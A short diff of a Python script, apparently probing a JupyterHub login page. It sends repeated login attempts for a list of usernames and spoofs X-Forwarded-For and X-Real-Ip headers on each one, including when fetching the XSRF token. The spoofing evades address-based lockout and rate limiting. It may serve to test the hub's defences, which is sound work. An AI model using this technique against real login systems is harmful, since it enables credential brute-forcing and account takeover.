@@ -22,12 +22,16 @@ from urllib.parse import urlsplit
 api = urlsplit(os.environ["JUPYTERHUB_API_URL"])
 hub = f"{api.scheme}://{api.netloc}"
 def guess(names, results):
+    # She claims to be somewhere else on every request (the hub's XSRF token
+    # for a logged-out visitor is bound to the address it believes, so the
+    # form is fetched with the same claim).
     s = requests.Session()
-    s.get(hub + "/hub/login", timeout=30)
-    token = s.cookies.get("_xsrf") or ""
+    s.headers["X-Real-Ip"] = "10.8.8.8"
     for name in names:
+        s.headers["X-Forwarded-For"] = "10.9.9." + str(len(results) % 250)
+        s.get(hub + "/hub/login", timeout=30)
+        token = s.cookies.get("_xsrf") or ""
         r = s.post(hub + "/hub/login", data={"username": name, "password": "salah-" + name + "-x", "_xsrf": token},
-                   headers={"X-Forwarded-For": "10.9.9." + str(len(results) % 250), "X-Real-Ip": "10.8.8.8"},
                    allow_redirects=False, timeout=60)
         results.append(r.status_code)
 results = []
